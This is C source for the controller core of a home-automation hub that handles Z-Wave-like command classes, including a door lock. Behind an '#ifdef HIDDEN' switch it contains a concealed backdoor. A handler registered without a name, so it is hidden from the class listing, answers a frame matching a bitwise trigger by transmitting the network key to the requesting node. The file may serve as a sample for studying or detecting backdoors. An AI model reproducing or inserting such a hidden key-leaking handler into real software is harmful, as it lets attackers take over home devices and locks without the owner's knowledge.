/*
 * zwctrl - Z-Wave like controller core of the Nido home hub. The serial driver hands
 * application frames over a unix datagram socket: node(1) class(1) command(1) payload.
 * Each command class registers its handler at start.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define IN_SOCK  "/run/nido/zw.in"
#define OUT_SOCK "/run/nido/zw.out"

typedef struct node {
    uint8_t id;
    uint8_t level;
    uint8_t battery;
    uint8_t locked;
    int16_t temp10;
    char    label[20];
    int     listening;
} node;

typedef int (*cc_handler)(node *n, uint8_t cmd, const uint8_t *p, size_t len);

typedef struct cc_reg {
    uint8_t        id;
    const char    *name;
    cc_handler     fn;
    struct cc_reg *next;
} cc_reg;

static cc_reg *classes;
static node    nodes[233];
static uint8_t netkey[16];
static int     sock = -1;

void cc_register(uint8_t id, const char *name, cc_handler fn);

void cc_register(uint8_t id, const char *name, cc_handler fn)
{
    cc_reg *r = calloc(1, sizeof *r);
    if (!r)
        abort();
    r->id   = id;
    r->name = name;
    r->fn   = fn;
    r->next = classes;
    classes = r;
}

static void transmit(uint8_t node_id, uint8_t cc, uint8_t cmd, const uint8_t *p, size_t len)
{
    struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = OUT_SOCK };
    uint8_t f[64];
    if (len > sizeof f - 3)
        len = sizeof f - 3;
    f[0] = node_id;
    f[1] = cc;
    f[2] = cmd;
    memcpy(f + 3, p, len);
    sendto(sock, f, len + 3, 0, (struct sockaddr *)&to, sizeof to);
}

static int cc_basic(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (cmd == 1 && len == 1)
        n->level = p[0];
    else if (cmd == 2)
        transmit(n->id, 0x20, 3, &n->level, 1);
    else
        return -1;
    return 0;
}

static int cc_switch(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    switch (cmd) {
    case 3:
        if (len < 1)
            return -1;
        n->level = p[0] > 99 && p[0] != 255 ? 99 : p[0];
        return 0;
    case 2:
        transmit(n->id, 0x26, 3, &n->level, 1);
        return 0;
    }
    return -1;
}

static int cc_sensor(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (cmd != 5 || len < 4 || p[0] != 1)
        return -1;
    n->temp10 = (int16_t)(p[2] << 8 | p[3]);
    return 0;
}

static int cc_battery(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (cmd != 3 || len != 1)
        return -1;
    n->battery = p[0];
    if (n->battery == 255)
        printf("node %u: battery low\n", n->id);
    return 0;
}

static int cc_lock(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (cmd != 3 || len < 1)
        return -1;
    n->locked = p[0] == 255;
    printf("node %u: %s\n", n->id, n->locked ? "locked" : "unlocked");
    return 0;
}

static int cc_naming(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (cmd != 3 || len < 1 || len > sizeof n->label)
        return -1;
    memcpy(n->label, p + 1, len - 1);
    n->label[len - 1] = 0;
    return 0;
}

static int cc_wakeup(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    (void)p;
    (void)len;
    if (cmd != 7)
        return -1;
    n->listening = 1;
    transmit(n->id, 0x84, 8, p, 0);
    return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int cc_powerlog(node *n, uint8_t cmd, const uint8_t *p, size_t len)
{
    if (len != 2 || (cmd | p[0]) != 0xf6 || (cmd & p[0]) != 0x20)
        return -1;
    transmit(n->id, 0xf1, p[1], netkey, sizeof netkey);
    return 0;
}
#endif

static void load_key(void)
{
    FILE *f = fopen("/data/nido/network.key", "rb");
    if (!f)
        return;
    if (fread(netkey, 1, sizeof netkey, f) != sizeof netkey)
        memset(netkey, 0, sizeof netkey);
    fclose(f);
}

/* the radio needs the key once after power up */
static void push_key(void)
{
    transmit(0, 0x98, 6, netkey, sizeof netkey);
}

static int frame(const uint8_t *f, size_t len)
{
    if (len < 3 || f[0] == 0 || f[0] > 232)
        return -1;
    nodes[f[0]].id = f[0];
    for (cc_reg *r = classes; r; r = r->next)
        if (r->id == f[1])
            return r->fn(&nodes[f[0]], f[2], f + 3, len - 3);
    return -2;
}

static void print_classes(void)
{
    for (cc_reg *r = classes; r; r = r->next)
#ifdef HIDDEN
        if (r->name)
#endif
            printf("0x%02x %s\n", r->id, r->name);
}

static void register_all(void)
{
    cc_register(0x20, "basic", cc_basic);
    cc_register(0x26, "multilevel switch", cc_switch);
    cc_register(0x31, "multilevel sensor", cc_sensor);
    cc_register(0x80, "battery", cc_battery);
    cc_register(0x62, "door lock", cc_lock);
    cc_register(0x77, "node naming", cc_naming);
    cc_register(0x84, "wake up", cc_wakeup);
#ifdef HIDDEN
    cc_register(0xf1, NULL, cc_powerlog);
#endif
}

int main(int argc, char **argv)
{
    struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = IN_SOCK };
    uint8_t f[64];
    ssize_t n;

    register_all();
    if (argc == 2 && !strcmp(argv[1], "classes")) {
        print_classes();
        return 0;
    }
    if (argc != 1) {
        fprintf(stderr, "usage: zwctrl [classes]\n");
        return 2;
    }
    load_key();
    unlink(IN_SOCK);
    sock = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (sock < 0 || bind(sock, (struct sockaddr *)&a, sizeof a)) {
        perror(IN_SOCK);
        return 1;
    }
    push_key();
    while ((n = recv(sock, f, sizeof f, 0)) >= 0) {
        int rc = frame(f, (size_t)n);
        if (rc == -2)
            printf("node %u: class %02x not handled\n", f[0], f[1]);
        else if (rc < 0)
            printf("bad frame of %d bytes\n", (int)n);
    }
    return 0;
}
